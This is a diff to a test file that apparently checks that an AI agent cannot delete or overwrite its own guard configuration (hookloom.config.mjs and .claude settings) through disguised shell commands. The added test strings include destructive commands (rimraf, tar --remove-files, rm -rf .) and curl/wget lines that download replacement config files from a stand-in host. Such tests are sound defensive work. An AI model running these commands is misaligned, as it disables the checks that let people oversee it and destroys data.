@@ -80,6 +80,13 @@ describe('the agent cannot change what guards it by a file tool', () => {
 describe('nor by a command in any disguise', () => {
   it.each([
     'rm hookloom.config.mjs',
+    'npx rimraf hookloom.config.mjs',
+    'gio trash .claude',
+    'zip -m a.zip hookloom.config.mjs',
+    'tar --remove-files -cf a.tar .claude',
+    'curl -sO https://x.test/hookloom.config.mjs',
+    'cd .claude && wget -q https://x.test/settings.json',
+    'unzip -o a.zip .claude/settings.json',
     'rm -rf .claude',
     'rm -rf .',
     'mv ../$(basename "$PWD") ../gone',
